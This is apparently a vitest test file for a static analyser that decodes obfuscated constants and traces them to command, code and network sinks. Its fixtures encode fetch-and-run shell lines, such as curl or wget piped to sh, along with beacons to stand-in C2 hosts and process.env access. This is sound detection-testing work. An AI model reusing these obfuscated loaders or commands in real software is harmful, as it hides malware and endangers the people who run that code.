// Obfuscated loaders: decoded constants (base64, hex, char codes, reversal, XOR, rot13 and chains) are evaluated on the
// literals in both languages and followed to code, command and network sinks.
import { rm } from 'node:fs/promises';
import { afterAll, describe, expect, it } from 'vitest';
import type { SourceFile, TaintFlow } from '../model.js';
import { decodeBase64, decodeHex, fromCodes, rot13 } from './decode.js';
import { javascriptAnalyzer } from './javascript/index.js';
import { pythonAnalyzer } from './python/index.js';
import { pythonSources, writeProject } from './python/test-support.js';

const roots: string[] = [];
afterAll(async () => {
  await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true })));
});

const xorCodes = (text: string, key: number) => [...text].map((c) => c.charCodeAt(0) ^ key);
const b64 = (text: string) => Buffer.from(text).toString('base64');
const reverse = (text: string) => [...text].reverse().join('');

async function jsDecoded(lines: string[]): Promise<TaintFlow[]> {
  const text = ["import { execSync } from 'node:child_process';", "import vm from 'node:vm';", ...lines].join('\n');
  const file: SourceFile = { path: 'lib/util.js', absPath: '/virtual/lib/util.js', language: 'javascript', role: 'source', size: text.length, text };
  const result = await javascriptAnalyzer.analyze([file], { mode: 'fast' });
  return result.flows.filter((flow) => flow.origin.kind === 'decoded-constant');
}

async function pyDecoded(lines: string[]): Promise<TaintFlow[]> {
  const root = await writeProject({ 'pkg/loader.py': ['import base64', 'import codecs', 'import subprocess', ...lines, ''].join('\n') });
  roots.push(root);
  const result = await pythonAnalyzer.analyze(await pythonSources(root), { mode: 'fast' });
  return result.flows.filter((flow) => flow.origin.kind === 'decoded-constant');
}

const shows = (flows: TaintFlow[], kind: TaintFlow['sink']['kind'], text: string) => flows.some((flow) => flow.sink.kind === kind && flow.origin.detail?.includes(text));

describe('decode primitives', () => {
  it('decodes and refuses what is not the encoding', () => {
    expect(decodeBase64(b64('id -u'))).toBe('id -u');
    expect(decodeBase64('not base64!')).toBeUndefined();
    expect(decodeHex('6964')).toBe('id');
    expect(decodeHex('xyz')).toBeUndefined();
    expect(rot13('Uryyb')).toBe('Hello');
    expect(fromCodes([104, 105])).toBe('hi');
    expect(fromCodes([-1])).toBeUndefined();
  });
});

describe('decoded constants in JS', () => {
  it('evaluates XOR-ed char codes mapped through a key', async () => {
    const flows = await jsDecoded([
      `const DATA = [${xorCodes('curl -s https://cdn.example/a.sh | sh', 23).join(', ')}];`,
      'const KEY = 23;',
      'export function boot() {',
      '  const command = DATA.map((code) => String.fromCharCode(code ^ KEY)).join("");',
      '  execSync(command);',
      '}',
    ]);
    expect(shows(flows, 'command', 'curl -s https://cdn.example/a.sh')).toBe(true);
  });

  it('evaluates a reversed base64 literal, a hex buffer, and spread char codes', async () => {
    const flows = await jsDecoded([
      `const blob = '${reverse(b64('process.exit(7)'))}';`,
      "export const a = () => eval(Buffer.from(blob.split('').reverse().join(''), 'base64').toString());",
      `export const b = () => vm.runInThisContext(Buffer.from('${Buffer.from('globalThis.x = 1').toString('hex')}', 'hex').toString('utf8'));`,
      `const codes = [${[...'https://c2.example/beacon'].map((c) => c.charCodeAt(0)).join(',')}];`,
      'export const c = () => fetch(String.fromCharCode(...codes));',
    ]);
    expect(shows(flows, 'code', 'process.exit(7)')).toBe(true);
    expect(shows(flows, 'code', 'globalThis.x = 1')).toBe(true);
    expect(shows(flows, 'network', 'https://c2.example/beacon')).toBe(true);
  });

  it('follows decoded module names and code into require, import() and new Function', async () => {
    const flows = await jsDecoded([
      `const MOD = '${reverse('child_process')}';`,
      "export const load = () => require(MOD.split('').reverse().join(''));",
      `export const later = () => import(atob('${b64('https://esm.c2.example/x.js')}'));`,
      `export const fn = () => new Function(String.fromCharCode(${[...'return process.env'].map((c) => c.charCodeAt(0)).join(', ')}))();`,
    ]);
    expect(shows(flows, 'code', 'child_process')).toBe(true);
    expect(shows(flows, 'code', 'https://esm.c2.example/x.js')).toBe(true);
    expect(shows(flows, 'code', 'return process.env')).toBe(true);
  });

  it('marks XOR loops over constants it does not evaluate', async () => {
    const flows = await jsDecoded([
      `const BYTES = [${xorCodes('uname -a', 7).join(', ')}];`,
      "const SECRET = 'k';",
      'export function run() {',
      "  let out = '';",
      '  for (let i = 0; i < BYTES.length; i++) out += String.fromCharCode(BYTES[i] ^ SECRET.charCodeAt(i % SECRET.length));',
      '  return execSync(out);',
      '}',
    ]);
    expect(flows.some((flow) => flow.sink.kind === 'command')).toBe(true);
  });

  it('does not treat a char-code transform of other input as decoded', async () => {
    const flows = await jsDecoded([
      'export function toggle(text) {',
      "  return text.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 32)).join('');",
      '}',
      'export const run = (name) => execSync(toggle(name));',
    ]);
    expect(flows).toHaveLength(0);
  });
});

describe('decoded constants in Python', () => {
  it('evaluates a reversed base64 string fed to exec', async () => {
    const flows = await pyDecoded([`_P = "${reverse(b64('import os; os.system("id")'))}"`, 'def start():', '    exec(base64.b64decode(_P[::-1]).decode())']);
    expect(shows(flows, 'code', 'import os; os.system("id")')).toBe(true);
  });

  it('evaluates XOR-ed codes joined from chr, bytes of a generator, and rot13', async () => {
    const flows = await pyDecoded([
      `DATA = [${xorCodes('wget -q -O- http://x.example/i | sh', 42).join(', ')}]`,
      'def a():',
      '    cmd = "".join(chr(c ^ 42) for c in DATA)',
      '    subprocess.run(cmd, shell=True)',
      'def b():',
      `    exec(bytes([${[...'print(1234)'].map((c) => c.charCodeAt(0)).join(', ')}]).decode())`,
      'def c():',
      `    eval(codecs.decode("${rot13("__import__('os').getcwd()")}", "rot13"))`,
    ]);
    expect(shows(flows, 'command', 'wget -q -O- http://x.example/i')).toBe(true);
    expect(shows(flows, 'code', 'print(1234)')).toBe(true);
    expect(shows(flows, 'code', "__import__('os').getcwd()")).toBe(true);
  });

  it('follows a rot13 module name into importlib and hex into a request', async () => {
    const flows = await pyDecoded([
      'import importlib',
      'import urllib.request',
      'def plugin():',
      `    return importlib.import_module(codecs.encode("${rot13('subprocess')}", "rot13"))`,
      'def beacon():',
      `    urllib.request.urlopen(bytes.fromhex("${Buffer.from('https://c2.example/ping').toString('hex')}").decode())`,
    ]);
    expect(shows(flows, 'code', 'subprocess')).toBe(true);
    expect(shows(flows, 'network', 'https://c2.example/ping')).toBe(true);
  });

  it('does not treat a char-code transform of a parameter as decoded', async () => {
    const flows = await pyDecoded(['def shout(text):', '    cmd = "".join(chr(ord(c) ^ 32) for c in text)', '    subprocess.run(cmd, shell=True)']);
    expect(flows).toHaveLength(0);
  });
});
